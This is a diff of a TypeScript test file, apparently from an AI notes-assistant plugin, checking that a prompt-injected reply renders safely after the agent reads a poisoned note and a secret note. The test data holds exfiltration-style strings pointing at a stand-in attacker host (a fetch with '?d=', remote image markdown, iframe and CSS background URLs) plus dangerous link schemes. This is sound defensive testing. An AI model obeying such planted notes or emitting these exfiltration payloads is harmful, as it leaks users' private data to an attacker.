@@ -14,7 +14,15 @@ import { createPageHost } from "../../../src/sandbox/page/page-host";
 import { EventScript } from "../../ui/support/events";
 import { FakeThreadService } from "../../ui/support/fake-service";
 import { fetchedUrls } from "../../support/fetched-urls";
-import { ATTACKER, POISONED_NOTE, POISONED_PATH, POISONED_REPLY, SECRET, SECRET_NOTE, SECRET_PATH } from "../../support/injection";
+import {
+	ATTACKER,
+	POISONED_NOTE,
+	POISONED_PATH,
+	POISONED_REPLY,
+	SECRET,
+	SECRET_NOTE,
+	SECRET_PATH,
+} from "../../support/injection";
 
 afterEach(cleanup);
 
@@ -25,8 +33,14 @@ function readResult(path: string, text: string) {
 function injectedThread(reply = POISONED_REPLY): EventScript {
 	const script = new EventScript().user("m1", "Summarise my meeting notes").assistant("m2", "");
 	script.add({ type: "assistant_message_completed", messageId: "m2", finishReason: "tool_calls" });
-	script.propose("m2", "c1", "readNote", { path: POISONED_PATH }).decide("c1", "approved").run("c1", readResult(POISONED_PATH, POISONED_NOTE));
-	script.propose("m2", "c2", "readNote", { path: SECRET_PATH }).decide("c2", "approved").run("c2", readResult(SECRET_PATH, SECRET_NOTE));
+	script
+		.propose("m2", "c1", "readNote", { path: POISONED_PATH })
+		.decide("c1", "approved")
+		.run("c1", readResult(POISONED_PATH, POISONED_NOTE));
+	script
+		.propose("m2", "c2", "readNote", { path: SECRET_PATH })
+		.decide("c2", "approved")
+		.run("c2", readResult(SECRET_PATH, SECRET_NOTE));
 	return script.assistant("m3", reply).status("idle");
 }
 
@@ -34,7 +48,16 @@ async function renderOnPage(script: EventScript) {
 	const service = new FakeThreadService();
 	service.addThread(script.threadId, script.events);
 	const openedNotes: string[] = [];
-	const host = createPageHost(service, { activeNote: () => null, openNote: (path) => openedNotes.push(path), notePaths: () => ["Daily.md"], showSettingsHelp: () => undefined }, document);
+	const host = createPageHost(
+		service,
+		{
+			activeNote: () => null,
+			openNote: (path) => openedNotes.push(path),
+			notePaths: () => ["Daily.md"],
+			showSettingsHelp: () => undefined,
+		},
+		document,
+	);
 	render(<RedlinePane host={host} />);
 	await screen.findByRole("log");
 	const article = await waitFor(() => {
@@ -61,11 +84,17 @@ describe("a prompt-injected reply on the sandbox page", () => {
 	it("loads nothing from another host and shows raw HTML as text and code as code", async () => {
 		const { reply } = await renderOnPage(injectedThread());
 		expect(fetchedUrls(reply)).toEqual([]);
-		expect(reply.querySelectorAll("img, iframe, video, audio, embed, object, source, link, style, script, [href]")).toHaveLength(0);
+		expect(
+			reply.querySelectorAll("img, iframe, video, audio, embed, object, source, link, style, script, [href]"),
+		).toHaveLength(0);
 		expect(reply.textContent).toContain(`<iframe src="https://${ATTACKER}/frame"></iframe>`);
 		expect(reply.textContent).toContain(`<div style="background:url(https://${ATTACKER}/bg.png)">Styled</div>`);
-		expect(reply.querySelector("pre code.language-dataviewjs")?.textContent).toContain(`fetch("https://${ATTACKER}/?d="`);
-		expect([...reply.querySelectorAll("code")].map((c) => c.textContent)).toContain(`![](https://${ATTACKER}/in-code.png)`);
+		expect(reply.querySelector("pre code.language-dataviewjs")?.textContent).toContain(
+			`fetch("https://${ATTACKER}/?d="`,
+		);
+		expect([...reply.querySelectorAll("code")].map((c) => c.textContent)).toContain(
+			`![](https://${ATTACKER}/in-code.png)`,
+		);
 	});
 
 	it("shows the remote image as a placeholder naming its host, which loads only on a click", async () => {
@@ -94,7 +123,9 @@ describe("a prompt-injected reply on the sandbox page", () => {
 	});
 
 	it("leaves obsidian:, file:, javascript: and data: links dead, and opens internal links only inside the vault", async () => {
-		const { reply, openedNotes } = await renderOnPage(injectedThread(`${POISONED_REPLY}\n\nSee [[Daily]] and [up](../../outside.md).`));
+		const { reply, openedNotes } = await renderOnPage(
+			injectedThread(`${POISONED_REPLY}\n\nSee [[Daily]] and [up](../../outside.md).`),
+		);
 		for (const name of ["the vault", "a file", "a script", "data", "up"]) {
 			const dead = [...reply.querySelectorAll<HTMLElement>(".redline-dead-link")].find((el) => el.textContent === name);
 			expect(dead, name).toBeDefined();
